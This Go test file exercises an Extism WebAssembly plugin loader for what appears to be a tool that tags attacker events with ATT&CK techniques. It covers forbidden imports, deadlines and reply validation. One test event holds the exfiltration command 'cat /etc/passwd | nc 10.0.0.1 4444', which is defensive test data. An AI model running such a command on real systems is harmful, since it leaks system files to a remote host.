package extism

import (
	"context"
	"encoding/binary"
	"errors"
	"math"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/decnet/ttp/abi"
	"github.com/decnet/ttp/rules"
	"github.com/decnet/ttp/wasm"
)

// tinyx is the Extism-variant twin of tiny_v1 (testdata/extism/tinyx, built by build.sh).
var tinyxPath = filepath.Join("..", "testdata", "extism", "tinyx.wasm")

func loadModule(t testing.TB, path string, lim wasm.Limits) wasm.Module {
	t.Helper()
	bin, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	m, err := testCompiler.Load(context.Background(), path, bin, lim)
	if err != nil {
		t.Fatalf("load %s: %v", path, err)
	}
	t.Cleanup(func() { m.Close(context.Background()) })
	return m
}

func newTestPool(t testing.TB, m wasm.Module, rs ...*rules.Rule) *wasm.Pool {
	t.Helper()
	p, rejected, err := wasm.NewPool(context.Background(), m, rules.PluginConfigs(rs), wasm.PoolConfig{Size: 2})
	if err != nil {
		t.Fatalf("pool over %s: %v", m.Manifest().Producer(), err)
	}
	if len(rejected) > 0 {
		t.Fatalf("rejected %+v", rejected)
	}
	t.Cleanup(func() { p.Retire(false) })
	return p
}

func TestExtismLoad(t *testing.T) {
	m := loadModule(t, tinyxPath, wasm.Limits{})
	if _, ok := m.(*extismModule); !ok {
		t.Fatalf("Compiler.Load picked %T for an Extism module", m)
	}
	man := m.Manifest()
	if man.Producer() != "tinyx@1.0.0" || len(man.Kinds) != 2 || man.Kinds[1].Fields[0] != "payload.username" ||
		!reflect.DeepEqual(man.EvidenceKeys, []string{"marker"}) || !man.Owns("lifter:tiny_marker") {
		t.Errorf("manifest %+v", man)
	}
	if len(m.SHA256()) != 64 {
		t.Errorf("sha256 %q", m.SHA256())
	}
	v1 := loadModule(t, wat("tiny_v1"), wasm.Limits{})
	if _, ok := v1.(*extismModule); ok {
		t.Errorf("Compiler.Load picked %T for a ttp-ABI module", v1)
	}
}

// TestExtismDetect checks the compile-free scan against wazero's reading of every test
// module, and that Detect picks exactly the Extism modules.
func TestExtismDetect(t *testing.T) {
	paths, _ := filepath.Glob(filepath.Join("..", "testdata", "wat", "*.wasm"))
	paths = append(paths, tinyxPath)
	ctx := context.Background()
	x := Variant{}
	for _, p := range paths {
		bin, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		ins, ierr := testCompiler.Inspect(ctx, bin)
		sc, serr := scanWasm(bin)
		if (ierr == nil) != (serr == nil) {
			t.Errorf("%s: wazero %v, scan %v", p, ierr, serr)
			continue
		}
		if ierr != nil {
			continue
		}
		var exports, imports []string
		for name := range sc.exports {
			exports = append(exports, name)
		}
		sort.Strings(exports)
		for _, imp := range sc.funcImports {
			imports = append(imports, imp[0]+"."+imp[1])
		}
		if !reflect.DeepEqual(exports, ins.Exports) || !reflect.DeepEqual(imports, ins.Imports) {
			t.Errorf("%s: scan read exports %v imports %v, wazero %v %v", p, exports, imports, ins.Exports, ins.Imports)
		}
		if got, want := x.Detect(bin), p == tinyxPath; got != want {
			t.Errorf("%s: Detect %v", p, got)
		}
	}
	for _, b := range [][]byte{nil, []byte("\x00asm"), []byte("\x00asm\x01\x00\x00\x00\x07\x05\x01"), []byte("garbage")} {
		if x.Detect(b) {
			t.Errorf("Detect(%q) = true", b)
		}
	}
}

// testImport is a function import of a hand-assembled module, typ indexing its types:
// 0 () -> (), 1 () -> i32, 2 () -> i64, 3 (i64) -> i64, 4 (i64, i32) -> (), 5 (i64) -> ().
type testImport struct {
	module, name string
	typ          byte
}

// extismTestModule hand-assembles a module exporting describe, configure and tag (all
// () -> i32) with the given function imports. describe has the body describe (its locals
// vector and instructions; nil: no locals, return 0); configure and tag return 0.
func extismTestModule(imports []testImport, describe []byte) []byte {
	vec := func(items ...[]byte) []byte {
		out := binary.AppendUvarint(nil, uint64(len(items)))
		for _, it := range items {
			out = append(out, it...)
		}
		return out
	}
	str := func(s string) []byte { return append(binary.AppendUvarint(nil, uint64(len(s))), s...) }
	section := func(id byte, body []byte) []byte {
		return append(binary.AppendUvarint([]byte{id}, uint64(len(body))), body...)
	}
	cat := func(parts ...[]byte) []byte {
		var out []byte
		for _, p := range parts {
			out = append(out, p...)
		}
		return out
	}
	body := func(code []byte) []byte { return append(binary.AppendUvarint(nil, uint64(len(code))), code...) }
	ret0 := body([]byte{0x00, 0x41, 0x00, 0x0b}) // no locals, i32.const 0, end
	desc := ret0
	if describe != nil {
		desc = body(describe)
	}
	var imps [][]byte
	for _, imp := range imports {
		imps = append(imps, cat(str(imp.module), str(imp.name), []byte{0, imp.typ}))
	}
	k := byte(len(imports)) // the module's own functions come after the imported ones
	return cat([]byte("\x00asm\x01\x00\x00\x00"),
		section(1, vec([]byte{0x60, 0, 0}, []byte{0x60, 0, 1, 0x7f}, []byte{0x60, 0, 1, 0x7e},
			[]byte{0x60, 1, 0x7e, 1, 0x7e}, []byte{0x60, 2, 0x7e, 0x7f, 0}, []byte{0x60, 1, 0x7e, 0})),
		section(2, vec(imps...)),
		section(3, vec([]byte{1}, []byte{1}, []byte{1})), // three functions of type 1
		section(7, vec(cat(str("describe"), []byte{0, k}), cat(str("configure"), []byte{0, k + 1}), cat(str("tag"), []byte{0, k + 2}))),
		section(10, vec(desc, ret0, ret0)))
}

func TestExtismImports(t *testing.T) {
	ctx := context.Background()
	for _, tt := range []struct {
		module, name string
		typ          byte
		forbidden    bool
	}{
		{"extism:host/env", "http_request", 0, true},
		{"extism:host/env", "var_set", 0, true},
		{"extism:host/user", "anything", 0, true},
		{"wasi_snapshot_preview1", "path_open", 0, true},
		{"env", "socket", 0, true},
		{"extism:host/env", "input_length", 2, false},
		{"wasi_snapshot_preview1", "sched_yield", 1, false},
	} {
		bin := extismTestModule([]testImport{{tt.module, tt.name, tt.typ}}, nil)
		if !(Variant{}).Detect(bin) {
			t.Fatalf("%s.%s: not detected as an Extism module", tt.module, tt.name)
		}
		m, err := testCompiler.Load(ctx, "imports.wasm", bin, wasm.Limits{})
		if m != nil {
			m.Close(ctx)
		}
		if got := errors.Is(err, wasm.ErrForbiddenImport); got != tt.forbidden {
			t.Errorf("%s.%s: load error %v, forbidden %v", tt.module, tt.name, err, tt.forbidden)
		}
		// Allowed imports load as far as describe, whose empty output is no manifest.
		if !tt.forbidden && !errors.Is(err, abi.ErrManifest) {
			t.Errorf("%s.%s: load error %v, want an invalid manifest", tt.module, tt.name, err)
		}
	}
}

// TestExtismCallFailures checks how call failures map, on describe at load: a trap is
// wasm.ErrTrap, a loop runs into the deadline (wasm.ErrTimeout), a non-zero return or an error the
// plugin sets with the kernel's error_set is abi.ErrGuest (with its message).
func TestExtismCallFailures(t *testing.T) {
	ctx := context.Background()
	for _, tt := range []struct {
		name     string
		describe []byte
		want     error
	}{
		{"trap", []byte{0, 0x00, 0x0b}, wasm.ErrTrap},                                        // unreachable
		{"loop", []byte{0, 0x03, 0x40, 0x0c, 0x00, 0x0b, 0x41, 0x00, 0x0b}, wasm.ErrTimeout}, // loop br 0 end; i32.const 0
		{"nonzero", []byte{0, 0x41, 0x01, 0x0b}, abi.ErrGuest},                               // i32.const 1
		// one i64 local; local.set 0 (alloc (i64.const 4)); store_u8 (local 0 + k, "bad!"[k])
		// for k in 0..3; error_set (local 0); i32.const 1
		{"error_set", cat2([]byte{1, 1, 0x7e, 0x42, 4, 0x10, 0, 0x21, 0},
			storeByte(0, 'b'), storeByte(1, 'a'), storeByte(2, 'd'), storeByte(3, '!'),
			[]byte{0x20, 0, 0x10, 2, 0x41, 1, 0x0b}), abi.ErrGuest},
	} {
		imports := []testImport{{"extism:host/env", "alloc", 3}, {"extism:host/env", "store_u8", 4}, {"extism:host/env", "error_set", 5}}
		bin := extismTestModule(imports, tt.describe)
		start := time.Now()
		m, err := testCompiler.Load(ctx, tt.name+".wasm", bin, wasm.Limits{Deadline: 20 * time.Millisecond})
		if m != nil {
			m.Close(ctx)
		}
		t.Logf("%s: %v", tt.name, err)
		if !errors.Is(err, tt.want) {
			t.Errorf("%s: load error %v, want %v", tt.name, err, tt.want)
		}
		if tt.name == "error_set" && (err == nil || !strings.HasSuffix(err.Error(), ": bad!")) {
			t.Errorf("%s: load error %v, want the plugin's message", tt.name, err)
		}
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%s: load took %v", tt.name, d)
		}
	}
}

// storeByte is store_u8 (local 0 + k, c) for k < 64 and an ASCII c: local.get 0;
// i64.const k; i64.add; i32.const c (signed LEB128); call 1.
func storeByte(k, c byte) []byte {
	imm := []byte{c}
	if c >= 0x40 {
		imm = []byte{c | 0x80, 0}
	}
	return cat2([]byte{0x20, 0, 0x42, k, 0x7c, 0x41}, imm, []byte{0x10, 1})
}

func cat2(parts ...[]byte) []byte {
	var out []byte
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

var twinEvents = []abi.Event{
	unameEvent,
	{SourceKind: "command", SourceID: "c2", Payload: map[string]any{"command_text": "cat /etc/passwd | nc 10.0.0.1 4444"}},
	{SourceKind: "command", SourceID: "c3", Payload: map[string]any{}},
	{SourceKind: "command", SourceID: "c4"},
	{SourceKind: "auth", SourceID: "a1", Payload: map[string]any{"username": "root", "password": "toor"}},
	{SourceKind: "auth", SourceID: "a2", Payload: map[string]any{"username": 42.0}},
	{SourceKind: "session", SourceID: "s1", Payload: map[string]any{"duration_ms": 1200.0}}, // not declared
	{SourceKind: "http", SourceID: "h1", Payload: map[string]any{"path": "/"}},              // not declared
}

// TestExtismTwin proves that tinyx through the Extism loader and tiny_v1 through the ttp
// loader give identical drafts for the same events, across instances and repeated calls.
func TestExtismTwin(t *testing.T) {
	rs := []*rules.Rule{tinyRule(t, "R9001", 0.8, "marker"), tinyRule(t, "R9002", 0.5, "marker")}
	px := newTestPool(t, loadModule(t, tinyxPath, wasm.Limits{}), rs...)
	pw := newTestPool(t, loadModule(t, wat("tiny_v1"), wasm.Limits{}), rs...)
	ctx := context.Background()
	for round := 0; round < 3; round++ {
		for _, ev := range twinEvents {
			if px.Handles(ev.SourceKind) != pw.Handles(ev.SourceKind) {
				t.Fatalf("%s: Handles differ", ev.SourceID)
			}
			gx, errx := px.Tag(ctx, &ev, nil)
			gw, errw := pw.Tag(ctx, &ev, nil)
			if errx != nil || errw != nil {
				t.Fatalf("%s: extism %v, wasm %v", ev.SourceID, errx, errw)
			}
			if !reflect.DeepEqual(gx, gw) {
				t.Errorf("%s: extism %+v, wasm %+v", ev.SourceID, gx, gw)
			}
			if px.Handles(ev.SourceKind) {
				want := []abi.TagDraft{{RuleID: "R9001", TechniqueID: "T1059", SubTechniqueID: "T1059.004", Tactic: "execution",
					Confidence: 0.8, Evidence: map[string]any{"marker": "v1"}}}
				if !reflect.DeepEqual(gx, want) {
					t.Errorf("%s: drafts %+v, want %+v", ev.SourceID, gx, want)
				}
			} else if len(gx) > 0 {
				t.Errorf("%s: drafts for an undeclared kind: %+v", ev.SourceID, gx)
			}
		}
	}
	if f := px.Health().Failures.Load(); f != 0 {
		t.Errorf("%d failures", f)
	}
}

// TestExtismInstanceCalls runs many calls on one instance: the guest runtime is initialized
// once, on the first call, and stays usable.
func TestExtismInstanceCalls(t *testing.T) {
	m := loadModule(t, tinyxPath, wasm.Limits{})
	ctx := context.Background()
	inst, err := m.NewInstance(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer inst.Close(ctx)
	reply, err := inst.Configure(ctx, &abi.ConfigureRequest{Rules: []abi.RuleConfig{{ID: "R9001", Kind: "lifter:tiny_marker"}}})
	if err != nil || reply.Error != "" || len(reply.Rejected) > 0 {
		t.Fatalf("configure: %+v, %v", reply, err)
	}
	lim := abi.ReplyLimits{Emits: []int{1}, EvidenceKeys: 1}
	var drafts []abi.ReplyDraft
	for i := 0; i < 200; i++ {
		ev := twinEvents[i%5]
		drafts, err = inst.Tag(ctx, m.Manifest().KindIndex(ev.SourceKind), &ev, lim, drafts[:0])
		if err != nil {
			t.Fatalf("call %d: %v", i, err)
		}
		want := []abi.ReplyDraft{{Rule: 0, Emit: 0, Scale: 1, Evidence: []abi.ReplyEvidence{{Key: 0, Value: "v1"}}}}
		if !reflect.DeepEqual(drafts, want) {
			t.Fatalf("call %d: %+v", i, drafts)
		}
	}
}

func TestExtismDeadline(t *testing.T) {
	m := loadModule(t, tinyxPath, wasm.Limits{})
	lim := abi.ReplyLimits{Emits: []int{1}, EvidenceKeys: 1}
	run := func(ctx context.Context, inst wasm.Instance) error {
		done := make(chan error, 1)
		go func() {
			_, err := inst.Tag(ctx, 0, &unameEvent, lim, nil)
			done <- err
		}()
		select {
		case err := <-done:
			return err
		case <-time.After(10 * time.Second):
			t.Fatal("tag call hangs past its deadline")
			return nil
		}
	}
	newInst := func() wasm.Instance {
		inst, err := m.NewInstance(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { inst.Close(context.Background()) })
		return inst
	}

	// The caller's context runs out: the context's error, not the plugin's failure.
	ctx, cancel := context.WithTimeout(context.Background(), time.Microsecond)
	defer cancel()
	<-ctx.Done()
	for _, warm := range []bool{false, true} {
		inst := newInst()
		if warm {
			// As a pool does: configure first, a load-time call with the long deadline, in
			// which the SDK runs the guest's _initialize (under -race on a busy machine that
			// can take longer than a tag call's 50 ms).
			if _, err := inst.Configure(context.Background(), &abi.ConfigureRequest{Rules: []abi.RuleConfig{{ID: "R9001", Kind: "lifter:tiny_marker"}}}); err != nil {
				t.Fatal(err)
			}
		}
		if err := run(ctx, inst); !errors.Is(err, context.DeadlineExceeded) && !errors.Is(err, wasm.ErrTimeout) {
			t.Errorf("warm=%v: tag under an expired context: %v", warm, err)
		}
	}

	// The plugin's own deadline runs out: wasm.ErrTimeout.
	em := m.(*extismModule)
	saved := em.limits.Deadline
	em.limits.Deadline = time.Nanosecond
	defer func() { em.limits.Deadline = saved }()
	if err := run(context.Background(), newInst()); !errors.Is(err, wasm.ErrTimeout) {
		t.Errorf("tag past the plugin deadline: %v, want wasm.ErrTimeout", err)
	}

	// Its retry (wasm.Retrier) runs under the deadline's worth of its own CPU time: a nanosecond
	// of it runs out too; the default deadline's passes.
	// The budget's check runs on a timer goroutine: on a starved machine (-race, other work on
	// both cores) a short call can return before it is scheduled, so a few fresh instances are
	// tried; the guest's start-up in its first call is far over a nanosecond on each.
	var retryErr error
	for range 5 {
		if _, retryErr = newInst().(wasm.Retrier).RetryTag(context.Background(), 0, &unameEvent, lim, nil); errors.Is(retryErr, wasm.ErrTimeout) {
			break
		}
	}
	if !errors.Is(retryErr, wasm.ErrTimeout) || !strings.Contains(retryErr.Error(), "retry") {
		t.Errorf("retry past the plugin deadline: %v, want the retry's wasm.ErrTimeout", retryErr)
	}
	em.limits.Deadline = saved
	inst := newInst()
	if _, err := inst.Configure(context.Background(), &abi.ConfigureRequest{Rules: []abi.RuleConfig{{ID: "R9001", Kind: "lifter:tiny_marker"}}}); err != nil {
		t.Fatal(err)
	}
	if drafts, err := inst.(wasm.Retrier).RetryTag(context.Background(), 0, &unameEvent, lim, nil); err != nil || len(drafts) != 1 {
		t.Errorf("retry within the deadline: %v %+v", err, drafts)
	}
}

// TestExtismReplyValidation checks decodeExtismReply against abi.DecodeReply: the same
// drafts from equivalent replies, and undecodable replies refused as wasm.ErrBadReply.
func TestExtismReplyValidation(t *testing.T) {
	keys := map[string]int{"marker": 0, "count": 1, "ratio": 2, "ok": 3, "list": 4, "nums": 5, "hdrs": 6}
	lim := abi.ReplyLimits{Emits: []int{1, 2}, EvidenceKeys: len(keys)}

	var b abi.ReplyBuilder
	b.Reset()
	b.Draft(0, 0, 1)
	b.EvidenceString(0, "v1")
	b.Draft(1, 1, 0.25)
	b.EvidenceNumber(1, 3)
	b.EvidenceNumber(2, 0.5)
	b.EvidenceBool(3, true)
	b.EvidenceStrings(4, []string{"ls", "id"})
	want, err := abi.DecodeReply(b.Bytes(), lim, nil)
	if err != nil {
		t.Fatal(err)
	}
	got, err := decodeExtismReply([]byte(`{"drafts":[{"rule":0,"emit":0,"scale":1,"evidence":{"marker":"v1"}},
		{"rule":1,"emit":1,"scale":0.25,"evidence":{"list":["ls","id"],"ok":true,"ratio":0.5,"count":3}}]}`), keys, lim, nil)
	if err != nil || !reflect.DeepEqual(got, want) {
		t.Errorf("got %+v, %v\nwant %+v", got, err, want)
	}

	got, err = decodeExtismReply([]byte(`{"drafts":[{"rule":0,"emit":0,"scale":0,"evidence":{"nums":[1,true,null],"hdrs":{"b":2,"a":"x"},"list":["a",1.5,false]}}]}`), keys, lim, nil)
	if err != nil {
		t.Fatal(err)
	}
	ev := got[0].Evidence
	if len(ev) != 3 || ev[0].Key != 4 || !reflect.DeepEqual(ev[0].Value, []string{"a", "1.5", "false"}) ||
		ev[1].Key != 5 || !math.IsNaN(ev[1].Value.([]float64)[2]) || ev[1].Value.([]float64)[1] != 1 ||
		ev[2].Key != 6 || !reflect.DeepEqual(ev[2].Value, []string{"a", "x", "b", "2"}) {
		t.Errorf("evidence %+v", ev)
	}

	for _, ok := range []string{`{}`, `{"drafts":[]}`, ` {"drafts":null} `} {
		if got, err := decodeExtismReply([]byte(ok), keys, lim, nil); err != nil || len(got) != 0 {
			t.Errorf("%s: %+v, %v", ok, got, err)
		}
	}

	if _, err := decodeExtismReply([]byte(`{"error":"boom"}`), keys, lim, nil); !errors.Is(err, abi.ErrGuest) || !strings.Contains(err.Error(), "boom") {
		t.Errorf("error reply: %v", err)
	}

	prev := []abi.ReplyDraft{{Rule: 0}}
	for name, reply := range map[string]string{
		"rule index out of range": `{"drafts":[{"rule":7,"emit":0,"scale":1}]}`,
		"rule index negative":     `{"drafts":[{"rule":-1,"emit":0,"scale":1}]}`,
		"rule index not integer":  `{"drafts":[{"rule":0.5,"emit":0,"scale":1}]}`,
		"emit out of range":       `{"drafts":[{"rule":0,"emit":1,"scale":1}]}`,
		"emit negative":           `{"drafts":[{"rule":1,"emit":-1,"scale":1}]}`,
		"scale above one":         `{"drafts":[{"rule":0,"emit":0,"scale":1.5}]}`,
		"scale below zero":        `{"drafts":[{"rule":0,"emit":0,"scale":-0.1}]}`,
		"undeclared evidence key": `{"drafts":[{"rule":0,"emit":0,"scale":1,"evidence":{"nope":1}}]}`,
		"missing scale":           `{"drafts":[{"rule":0,"emit":0}]}`,
		"missing rule":            `{"drafts":[{"emit":0,"scale":1}]}`,
		"unknown key":             `{"draft":[{"rule":0,"emit":0,"scale":1}]}`,
		"unknown draft key":       `{"drafts":[{"rule":0,"emit":0,"scale":1,"confidence":1}]}`,
		"trailing data":           `{"drafts":[]} {}`,
		"second draft bad":        `{"drafts":[{"rule":0,"emit":0,"scale":1},{"rule":2,"emit":0,"scale":1}]}`,
		"not json":                "\xa7\x01garbage",
		"empty":                   ``,
		"array":                   `[]`,
		"evidence not an object":  `{"drafts":[{"rule":0,"emit":0,"scale":1,"evidence":["marker"]}]}`,
	} {
		got, err := decodeExtismReply([]byte(reply), keys, lim, prev)
		if !errors.Is(err, wasm.ErrBadReply) {
			t.Errorf("%s: %v, want wasm.ErrBadReply", name, err)
		}
		if !reflect.DeepEqual(got, prev) {
			t.Errorf("%s: out changed to %+v", name, got)
		}
	}
	big := make([]byte, abi.MaxReply+1)
	if _, err := decodeExtismReply(big, keys, lim, nil); !errors.Is(err, wasm.ErrOutputCap) {
		t.Errorf("oversized reply: %v", err)
	}
}

// TestExtismTagInput checks the JSON input of tag: projected values in declared order,
// JSON-typed, null when absent, lists for [] paths and the object for .* paths.
func TestExtismTagInput(t *testing.T) {
	man, err := abi.DecodeManifest([]byte(`{"abi":1,"name":"in","version":"1.0.0","rule_kinds":["lifter:in_"],
		"kinds":[{"source_kind":"session","fields":["payload.commands[].text","payload.duration_ms","payload.headers.*",
		"payload.missing","session_id","payload.ok","payload.ratio"]}],"evidence_keys":[]}`))
	if err != nil {
		t.Fatal(err)
	}
	pl, err := man.Plans()
	if err != nil {
		t.Fatal(err)
	}
	inst, _ := (&extismModule{manifest: man, plans: pl}).instantiateForTest()
	ev := abi.Event{SourceKind: "session", SourceID: "s1", SessionID: "sess-1", Payload: map[string]any{
		"commands":    []any{map[string]any{"text": "ls"}, map[string]any{}, map[string]any{"text": "uname -a"}},
		"duration_ms": 1200.0, "headers": map[string]any{"Host": "x", "A": "<b>&"}, "ok": true, "ratio": math.NaN(),
	}}
	got := string(inst.appendTagInput(nil, 0, &ev))
	want := `{"source_kind":"session","fields":[["ls",null,"uname -a"],1200,{"A":"<b>&","Host":"x"},null,"sess-1",true,null]}`
	if got != want {
		t.Errorf("tag input\n got %s\nwant %s", got, want)
	}
}

// instantiateForTest makes an instance without a plugin, to test input building.
func (m *extismModule) instantiateForTest() (*extismInstance, error) {
	inst := &extismInstance{module: m}
	inst.enc = newFieldEncoder(&inst.field)
	return inst, nil
}

func benchmarkPoolTag(b *testing.B, path string) {
	m := loadModule(b, path, wasm.Limits{})
	r, err := rules.Parse("R9001.yaml", []byte(`id: R9001
name: tiny R9001
applies_to: [command, auth]
match: {kind: lifter:tiny_marker, params: {threshold: 3}}
emits:
  - {technique_id: T1059, sub_technique_id: T1059.004, tactic: execution, confidence: 0.8}
precision: M
evidence_fields: [marker]
`))
	if err != nil {
		b.Fatal(err)
	}
	p := newTestPool(b, m, r)
	ctx := context.Background()
	var out []abi.TagDraft
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if out, err = p.Tag(ctx, &unameEvent, out[:0]); err != nil || len(out) != 1 {
			b.Fatalf("%v %v", out, err)
		}
	}
}

// BenchmarkExtismTag and BenchmarkWasmTag measure one wasm.Pool.Tag call on the same event through
// the Extism loader (tinyx) and the ttp ABI loader (tiny_v1).
func BenchmarkExtismTag(b *testing.B) { benchmarkPoolTag(b, tinyxPath) }
func BenchmarkWasmTag(b *testing.B)   { benchmarkPoolTag(b, wat("tiny_v1")) }
